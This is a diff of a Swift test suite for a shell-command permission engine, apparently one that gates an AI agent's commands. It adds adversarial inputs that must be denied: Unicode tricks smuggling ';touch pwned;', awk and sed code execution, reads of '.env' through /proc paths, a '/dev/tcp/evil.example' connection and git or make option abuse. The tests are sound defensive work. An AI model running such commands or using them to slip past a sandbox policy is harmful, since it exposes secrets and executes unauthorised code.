@@ -30,6 +30,140 @@ import Testing
         }
     }
 
+    /// Found by the second attack: allowed by the presets, and more than it looks like.
+    @Test(arguments: [
+        // To Swift a quote with an accent is no quote.
+        "git log -- \"'\u{301};touch pwned;'\u{301}\" | cat", "cat \u{212A}EYS", "ls a\u{300}", "ls \u{37E}",
+        "git log -- $'a\rb' | cat",
+        // awk ends a number where a word begins; seds end brackets in different places.
+        "awk 'BEGIN{x=1system(\"touch pwned\")}'", "awk '{print 1getline x <\"/etc/passwd\"}' f",
+        "awk '{x=0x1fsystem(\"id\")}' f", "sed '/[[...]]/p;s/.]]/!e touch pwned #/' f", "sed 's/[[=a=]/e]/x/' f",
+        "sed 'v;s/[/e/' f",
+        // Options without a value of their own, and what a repository's configuration can name.
+        "git diff -U --ext-diff HEAD", "git log -p -U --ext-diff -1", "git show -U --output=../outside/x",
+        "git diff --submodule=diff", "git show --remerge-diff", "git log -p --diff-merges=remerge",
+        "head -n --version f",
+        // Quotes within a pattern.
+        "cat .en[a\\]v]", "cat .en[\"!\"v]", "cat [a\\]l]/o", "cat '\\'?", "ls a\"*\"b?",
+        // The working directory and root by another name, and what is no file at all.
+        "cat /proc/1/cwd/.env", "cat /proc/self/fd/3/../.env", "cat </dev/tcp/evil.example/80",
+        "cat </proc/self/cwd/.env", "cat /proc/self/root/work/tree/.env", "cat /proc/thread-self/cwd/.env",
+        "cat /proc/self/task/7/cwd/.env",
+        // Archives on other machines, and scripts in targets.
+        "tar -tf evil.example:x", "tar tf evil.example:x", "make SHELL=/usr/bin/touch .SHELLFLAGS=pwned",
+    ]) func neverAllowedEither(_ command: String) throws {
+        let making = try Narrow.policy(
+            """
+            version = 1
+            extends = ["preset:readonly"]
+            [[command]]
+            argv = ["make", "..."]
+            decision = "allow"
+            [[command]]
+            argv = ["tar", "..."]
+            decision = "allow"
+            """)
+        for engine in try [preset("readonly"), preset("agent"), Narrow.engine(), Engine([Tier(.session, making)])] {
+            let verdict = engine.judge(command)
+            #expect(verdict.decision != .allow, "\(verdict)")
+        }
+    }
+
+    /// What a name leads to counts, also where that does not exist yet, and where it has another name's characters.
+    @Test(arguments: [
+        ("cat k", Decision.deny), ("touch dangling", .deny), ("ls > dangling", .deny), ("cat \u{C5}x", .deny),
+        ("cat odd", .ask), ("cat plain", .allow), ("touch plain", .allow),
+        ("cat \(String(repeating: "./", count: 2040))k", .deny),
+        ("cat \(String(repeating: "a/../", count: 810))k", .deny),
+    ]) func linksAreFollowed(_ command: String, _ expected: Decision) throws {
+        let policy = try Narrow.policy(
+            """
+            version = 1
+            [[command]]
+            argv = ["cat", "..."]
+            decision = "allow"
+            [[command]]
+            argv = ["touch", "..."]
+            decision = "allow"
+            [[command]]
+            argv = ["ls", "..."]
+            decision = "allow"
+            [fs]
+            read = ["${workspace}"]
+            write = ["${workspace}"]
+            deny = ["**/.env", "**/\u{212B}x"]
+            """)
+        let engine = try Engine([Tier(.session, policy)]) { path in
+            switch path.split(separator: "/").last {
+            case "k": Narrow.workspace + "/.env"
+            case "dangling": "/outside/new"
+            case "\u{C5}x": Narrow.workspace + "/\u{212B}x"
+            case "odd": nil
+            default: path
+            }
+        }
+        #expect(engine.judge(command).decision == expected, "\(engine.judge(command).evidence)")
+    }
+
+    /// A command that changes its own directory writes there, and one that starts elsewhere reads there.
+    @Test(arguments: [
+        "find ../outside -name o -execdir sort -o written o ';'", "env -C ../outside sort -o written2 o",
+        "env --chdir=/etc sort -o x o", "find . -exec sort f -o \u{37E} ';'",
+        "find . -type f -exec sh -c \"ls {}\u{301}\" ';'", "ls | xargs -I% sh -c \"ls %\u{301}\" --",
+    ]) func directoriesAreFollowed(_ command: String) throws {
+        let engine = try Narrow.engine(
+            """
+            version = 1
+            [[command]]
+            argv = ["sort", "..."]
+            decision = "allow"
+            [[command]]
+            argv = ["find", "..."]
+            flags = { allow = ["-execdir", "-exec", "-name", "-type"] }
+            decision = "allow"
+            [[command]]
+            argv = ["env", "..."]
+            flags = { allow = ["-C", "--chdir"] }
+            decision = "allow"
+            [[command]]
+            argv = ["ls", "..."]
+            decision = "allow"
+            [fs]
+            read = ["${workspace}", "/work/outside"]
+            write = ["${workspace}"]
+            """)
+        #expect(engine.judge(command).decision != .allow)
+        #expect(engine.judge("sort -o written o").decision == .allow)
+        let elsewhere = CommandRequest(.string(Array("ls".utf8)), workspace: Narrow.workspace, directory: "/etc")
+        #expect(engine.judge(elsewhere).decision == .deny)
+    }
+
+    /// Short strings that took minutes.
+    @Test func boundedTime() throws {
+        let names = (1...500).map { "a\($0)" }
+        let policy = try Narrow.policy(
+            """
+            version = 1
+            extends = ["preset:readonly"]
+            [fs]
+            deny = ["**/secrets/**/private/**/*.key"]
+            """)
+        let engine = try Engine(
+            [Tier(.session, policy)], resolve: { $0 },
+            expand: { directory, _ in names.map { directory + "/" + $0 } })
+        let commands = [
+            (1...2000).map { "cd d\($0);" }.joined(),
+            "cd a;cd b;cd c;cd d; ls" + (1...350).map { " /usr/*/*z\($0)" }.joined(),
+            "ls" + String(repeating: " a*", count: 1300),
+            "ls [sp]*[es]" + String(repeating: "/[sp]*[es]", count: 400),
+        ]
+        for command in commands {
+            let took = ContinuousClock().measure { #expect(engine.judge(command).decision != .deny) }
+            // Seconds, in a debug build: what is tested is that it is not minutes.
+            #expect(took < .seconds(30), "\(command.prefix(30))")
+        }
+    }
+
     /// A pattern is several words, the last of which uniq writes.
     @Test func patternsTakeEveryPlace() throws {
         #expect(try preset("readonly").judge("uniq *.txt").decision == .deny)
@@ -77,7 +211,9 @@ import Testing
 
     @Test(arguments: [
         "sort -o f g", "env - rm x", "env -S 'rm x'", "xargs -I% sh -c '% x'", "find m -exec sh -c 'r{} x' ';'",
-        "sh +e -c 'rm x'", "sh <<< 'rm x'", "echo 'rm x' | sh", "bash --rcfile f -c 'rm x'", "env -i - rm x",
+        "sh +e -c 'rm x'", "bash -c +e 'rm x'", "echo 'rm x' | bash -v", "sh -h <f", "echo x | python3 -v",
+        "awk 'BEGIN{system(\"x\")}'", "sed '1e id' f", "sh <<< 'rm x'", "echo 'rm x' | sh", "bash --rcfile f -c 'rm x'",
+        "env -i - rm x",
         "busybox rm x",
         "rm other secret", "sort -og f",
     ]) func denialsAreNotEvaded(_ command: String) throws {
